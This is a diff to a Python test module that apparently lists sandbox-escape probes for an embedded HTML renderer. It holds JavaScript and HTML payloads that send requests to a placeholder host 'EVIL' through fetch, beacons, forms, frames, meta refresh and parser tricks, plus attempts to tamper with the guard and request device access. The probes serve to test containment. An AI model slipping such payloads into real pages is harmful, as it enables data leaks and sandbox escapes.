@@ -1,13 +1,13 @@
-"""Ways out of a box that a program may try: each is JavaScript, and reports what it reached with ``say``.
+"""Programs that try to escape from a box. They report a success with ``say``.
 
-``EVIL`` stands for a server elsewhere.
+``EVIL`` stands for the host and port of a foreign server.
 """
 
-# ruff: noqa: E501 - each program on a line
+# ruff: noqa: E501 - one program per line
 
 from __future__ import annotations
 
-REACHES = {
+NETWORK_ATTEMPTS = {
     "fetch": "fetch('http://EVIL/fetch').then(() => say('fetched'), () => {})",
     "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'http://EVIL/xhr'); x.onload = () => say('got'); x.send()",
     "beacon": "navigator.sendBeacon('http://EVIL/beacon', 'x')",
@@ -85,7 +85,7 @@ REACHES = {
     "a frame of a script": "const f = make('iframe', { src: 'javascript:top.postMessage({ escaped: 1 }, \"*\")' }); if (f.contentWindow) say('made')",
     "an object": "make('object', { data: 'http://EVIL/o' }); make('embed', { src: 'http://EVIL/e' }); "
     "make('object', { data: 'data:text/html,<script>top.postMessage({ escaped: 1 }, \"*\")<\\/script>' })",
-    "another fence": "if (make('fencedframe', {}) instanceof (window.HTMLFencedFrameElement ?? Array) || make('portal', {}).src) say('made')",
+    "other frames": "if (make('fencedframe', {}) instanceof (window.HTMLFencedFrameElement ?? Array) || make('portal', {}).src) say('made')",
     "refresh": "make('meta', { httpEquiv: 'refresh', content: '0;url=http://EVIL/refresh' }); "
     "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=http://EVIL/refresh\">')",
     "a form": "const f = make('form', { action: 'http://EVIL/form', method: 'post' }); f.submit(); f.requestSubmit?.(); "
@@ -105,16 +105,16 @@ REACHES = {
     "dialogs": "if (confirm('x') || prompt('x', 'y')) say('asked'); alert('x'); print()",
     "devices": "navigator.geolocation?.getCurrentPosition(() => say('place'), () => {}); navigator.mediaDevices?.getUserMedia({ audio: true })"
     ".then(() => say('ear'), () => {}); Notification?.requestPermission?.().then((p) => p === 'granted' && say('notes'))",
-    "our own wall": "try { box.save = 1 } catch {} try { window.box = 1 } catch {} if (typeof box.save !== 'function') say('changed'); "
+    "our guard": "try { box.save = 1 } catch {} try { window.box = 1 } catch {} if (typeof box.save !== 'function') say('changed'); "
     "try { trustedTypes.createPolicy('default', { createHTML: (x) => x }); say('policy') } catch {} "
     "try { trustedTypes.createPolicy('other', { createHTML: (x) => x }); say('policy') } catch {}",
-    "our own methods": "delete Document.prototype.createElement; try { Document.prototype.createElement = 1 } catch {} "
+    "our guarded methods": "delete Document.prototype.createElement; try { Document.prototype.createElement = 1 } catch {} "
     "if (document.createElement('iframe').contentWindow !== undefined) say('made')",
     "eval": "try { (0, eval)('say(\"eval\")') } catch {} try { Function('say(\"function\")')() } catch {}",
 }  # fmt: skip
-"""Scripts, by what they try."""
+"""Scripts that try to reach the network, the page around the box, or stored data, by what they try."""
 
-LEAVES = {
+NAVIGATION_ATTEMPTS = {
     "location": "location = 'http://EVIL/location'",
     "location by replace": "location.replace('http://EVIL/replace')",
     "location by href": "window.location.href = '//EVIL/href'",
@@ -129,45 +129,47 @@ LEAVES = {
         document.querySelector('svg a').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))""",
     "base": "make('base', { href: 'http://EVIL/' }); const i = new Image(); i.src = 'x.png'; location = 'y'",
 }  # fmt: skip
-"""Scripts that try to leave. Chromium looks up the server of an address and connects to it, without a word, before it
-asks the policy whether a frame may go there; no page can keep it from that."""
+"""Scripts that try to navigate. Chromium resolves and connects to the host before it checks whether the policy allows the
+navigation. No page can prevent that."""
 
-STANDING = {
-    "standing link": "<link rel=preconnect href=http://EVIL><link rel=stylesheet href=http://EVIL/a><LINK\trel=icon href=http://EVIL/b>",
-    "standing frame": "<iframe src=http://EVIL/f></iframe><iframe srcdoc='<script>top.postMessage({escaped: 1}, \"*\")</script>'></iframe>"
+MARKUP_ATTEMPTS = {
+    "markup: link": "<link rel=preconnect href=http://EVIL><link rel=stylesheet href=http://EVIL/a><LINK\trel=icon href=http://EVIL/b>",
+    "markup: frame": "<iframe src=http://EVIL/f></iframe><iframe srcdoc='<script>top.postMessage({escaped: 1}, \"*\")</script>'></iframe>"
     "<frameset><frame src=http://EVIL/g></frameset><object data=http://EVIL/o></object><embed src=http://EVIL/e>",
-    "standing meta": "<meta http-equiv=refresh content='0;url=http://EVIL/m'><META HTTP-EQUIV='refresh' content='0;/wiki/never'>",
-    "standing base": "<base href=http://EVIL/><img src=x.png><a href=y>z</a>",
-    "standing rules": "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"http://EVIL/s\"]}]}</script>",
-    "standing pictures": "<img src=http://EVIL/i srcset='http://EVIL/j 2x'><video src=http://EVIL/v poster=http://EVIL/p autoplay></video>"
+    "markup: meta": "<meta http-equiv=refresh content='0;url=http://EVIL/m'><META HTTP-EQUIV='refresh' content='0;/wiki/never'>",
+    "markup: base": "<base href=http://EVIL/><img src=x.png><a href=y>z</a>",
+    "markup: rules": "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"http://EVIL/s\"]}]}</script>",
+    "markup: pictures": "<img src=http://EVIL/i srcset='http://EVIL/j 2x'><video src=http://EVIL/v poster=http://EVIL/p autoplay></video>"
     "<audio src=http://EVIL/a></audio><svg><image href=http://EVIL/s /><use href=http://EVIL/u#x /></svg><body background=http://EVIL/b>",
-    "standing style": "<style>@import url(http://EVIL/s.css); body { background: url(http://EVIL/t) }</style><p style='background: url(http://EVIL/u)'>",
-    "standing form": "<form action=http://EVIL/f id=f><input name=x></form><script>f.submit()</script>",
-    "standing in a comment": "<!-- <script> --><iframe srcdoc='<script>top.postMessage({escaped: 1}, \"*\")</script>'></iframe><!-- </script> -->",
-    "standing in a title": "<title><script></title><link rel=preconnect href=http://EVIL></script>",
-    "standing in an attribute": "<p title='<script>'><link rel=preconnect href=http://EVIL><iframe src=http://EVIL/q></iframe></p>",
-    "standing end of ours": "</script><script>say('x' && '');</script><link rel=preconnect href=http://EVIL>",
+    "markup: style": "<style>@import url(http://EVIL/s.css); body { background: url(http://EVIL/t) }</style><p style='background: url(http://EVIL/u)'>",
+    "markup: form": "<form action=http://EVIL/f id=f><input name=x></form><script>f.submit()</script>",
+    "markup: in a comment": "<!-- <script> --><iframe srcdoc='<script>top.postMessage({escaped: 1}, \"*\")</script>'></iframe><!-- </script> -->",
+    "markup: in a title": "<title><script></title><link rel=preconnect href=http://EVIL></script>",
+    "markup: in an attribute": "<p title='<script>'><link rel=preconnect href=http://EVIL><iframe src=http://EVIL/q></iframe></p>",
+    "markup: end of our script": "</script><script>say('x' && '');</script><link rel=preconnect href=http://EVIL>",
 }  # fmt: skip
-"""Markup that tries it without a script."""
+"""Markup that tries the same without a script."""
 
-HELP = """const say = (what) => what && top.postMessage({ escaped: NAME + ': ' + what }, '*');
+HELPERS = """const say = (what) => what && top.postMessage({ escaped: NAME + ': ' + what }, '*');
 const make = (name, given) => { const e = document.createElement(name); for (const key in given) { try { e[key] = given[key] }
 catch {} try { e.setAttribute(key === 'httpEquiv' ? 'http-equiv' : key, given[key]) } catch {} } document.body.append(e); return e };"""
 
 
-def documents(evil: str, scripts: dict[str, str], standing: dict[str, str] | None = None) -> dict[str, str]:
-    """Whole documents, by what they try; each tells that it ran.
+def documents(host: str, scripts: dict[str, str], markup: dict[str, str] | None = None) -> dict[str, str]:
+    """Return complete documents by what they try. Each reports that it ran.
 
     Args:
-        evil: host and port of the server that must not be reached.
-        scripts: what they try by a script.
-        standing: what they try without.
+        host: Host and port of the server that must not be reached.
+        scripts: Scripts by what they try.
+        markup: Markup by what it tries.
     """
-    made = {}
+    found = {}
     for name, code in scripts.items():
-        body = f"<script>{HELP}\ntop.postMessage({{ ran: NAME }}, '*');\ntry {{ {code} }} catch (error) {{}}</script>"
-        made[name] = f"<!doctype html><html><body><p>{name}</p>{body}".replace("NAME", repr(name))
-    for name, markup in (standing or {}).items():
-        ran = f"<script>{HELP}\ntop.postMessage({{ ran: NAME }}, '*');</script>".replace("NAME", repr(name))
-        made[name] = f"<!doctype html><html>{ran}{markup}"
-    return {name: text.replace("EVIL", evil) for name, text in made.items()}
+        body = (
+            f"<script>{HELPERS}\ntop.postMessage({{ ran: NAME }}, '*');\ntry {{ {code} }} catch (error) {{}}</script>"
+        )
+        found[name] = f"<!doctype html><html><body><p>{name}</p>{body}".replace("NAME", repr(name))
+    for name, body in (markup or {}).items():
+        ran = f"<script>{HELPERS}\ntop.postMessage({{ ran: NAME }}, '*');</script>".replace("NAME", repr(name))
+        found[name] = f"<!doctype html><html>{ran}{body}"
+    return {name: text.replace("EVIL", host) for name, text in found.items()}
